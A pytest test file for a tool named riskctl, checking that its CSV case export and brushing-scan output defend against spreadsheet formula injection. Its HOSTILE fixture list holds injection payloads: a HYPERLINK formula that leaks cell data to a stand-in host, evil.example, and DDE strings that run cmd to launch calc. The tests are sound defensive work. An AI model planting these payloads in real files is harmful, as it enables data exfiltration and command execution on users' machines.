"""CSV formula injection: every CSV riskctl writes is safe to open in a spreadsheet.

* ``GET /v1/cases/export.csv`` (for people): a text cell that starts with ``=``, ``+``, ``-``,
  ``@``, tab, CR or LF gets a leading ``'``; numbers stay numbers.
* ``riskctl scan brushing --out`` (``shopid,userid``, an interchange format read by programs):
  ids are written back exactly, so an orders CSV with an id that would be hostile is refused.
"""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from api.cli import main
from riskctl.csvsafe import FORMULA_TRIGGERS, safe_cell, to_csv
from tests.cases.conftest import add_case
from tests.conftest import make_key

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_cell_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        (-5, "-5"),
        (2.5, "2.5"),
        (None, ""),
        ("", ""),
        (True, "true"),
    ],
)
def test_other_cells_are_unchanged(value, cell):
    assert safe_cell(value) == cell


def test_to_csv_round_trips_through_a_csv_reader():
    body = to_csv(["a", "b"], [[HOSTILE[0], 'say "hi",\nthere'], [-1, 3.5]])
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert rows == [["a", "b"], ["'" + HOSTILE[0], 'say "hi",\nthere'], ["-1", "3.5"]]


@pytest.fixture
def hostile_cases(app):
    sessions = app.extensions["riskctl"].sessions
    ids = []
    for i, text in enumerate(HOSTILE):
        ids.append(
            add_case(
                sessions,
                title=text,
                subject_id=f"{text}-{i}",
                shop_id=text,
                assignee=text,
                resolved_by=text,
                appeal_reason=text,
                money_at_stake=-12.5,
                priority=90.0 - i,
            )
        )
    return ids


def test_the_case_export_defuses_every_formula(client, app, hostile_cases):
    key = make_key(app, "analyst")
    resp = client.get("/v1/cases/export.csv?status=all", headers={"Authorization": f"Bearer {key}"})
    assert resp.status_code == 200
    assert resp.mimetype == "text/csv"
    assert resp.headers["Content-Disposition"].startswith("attachment")
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True), newline="")))
    assert [r["id"] for r in rows] == hostile_cases  # every case, by priority
    text_columns = ("title", "subject_id", "shop_id", "assignee", "resolved_by", "appeal_reason")
    for row, original in zip(rows, HOSTILE, strict=True):
        for col in text_columns:
            assert not row[col].startswith(FORMULA_TRIGGERS), (col, row[col])
            assert row[col].startswith("'") and row[col][1:].startswith(original[:1])
        assert row["title"] == "'" + original  # nothing else changed: the text is all there
        assert row["money_at_stake"] == "-12.5"  # a number is a number, not a formula


def test_the_case_export_needs_authorization(client, app, hostile_cases):
    assert client.get("/v1/cases/export.csv").status_code == 401
    holder = make_key(app, "rights_holder")
    resp = client.get("/v1/cases/export.csv", headers={"Authorization": f"Bearer {holder}"})
    assert resp.status_code == 403
    assert resp.mimetype == "application/problem+json"
    analyst = make_key(app, "analyst")
    resp = client.get("/v1/cases/export.csv?owner=me", headers={"Authorization": f"Bearer {analyst}"})
    assert resp.status_code == 422
    assert resp.mimetype == "application/problem+json"


@pytest.fixture
def no_database(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RISKCTL_DATABASE_URL", "postgresql://nobody@127.0.0.1:1/none")


ORDERS = "orderid,shopid,userid,event_time\n" + "".join(
    f"{i},{shop},{user},2019-12-27 10:{i * 5:02d}:00\n"
    for i, (shop, user) in enumerate(
        [("0042", "-7"), ("0042", "-7"), ("0042", "-7"), ("9", "18446744073709551617")]
    )
)


def test_brushing_output_keeps_numeric_ids_exact(tmp_path, no_database):
    src = tmp_path / "orders.csv"
    src.write_text(ORDERS)
    result = CliRunner().invoke(main, ["scan", "brushing", "--orders", str(src), "--out", "-"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    # leading zeros, a negative integer and a number past 64 bits come back exactly
    assert rows == [["shopid", "userid"], ["9", "0"], ["0042", "-7"]]


@pytest.mark.parametrize("hostile", [*HOSTILE[1:2], "+1", "@x", "\t1", "a&b", "-x"])
@pytest.mark.parametrize("column", ["shopid", "userid"])
def test_brushing_refuses_an_id_it_could_not_write_safely_and_exactly(tmp_path, no_database, hostile, column):
    src = tmp_path / "orders.csv"
    rows = [["1", "10", "900", "2019-12-27 10:00:00"], ["2", "10", "901", "2019-12-27 10:05:00"]]
    rows[1][1 if column == "shopid" else 2] = hostile
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([["orderid", "shopid", "userid", "event_time"], *rows])
    src.write_text(buf.getvalue())
    result = CliRunner().invoke(main, ["scan", "brushing", "--orders", str(src), "--out", "-"])
    assert result.exit_code == 1
    assert f"{column} " in result.output and "on data row 2" in result.output
    assert "shopid,userid" not in result.stdout  # nothing written
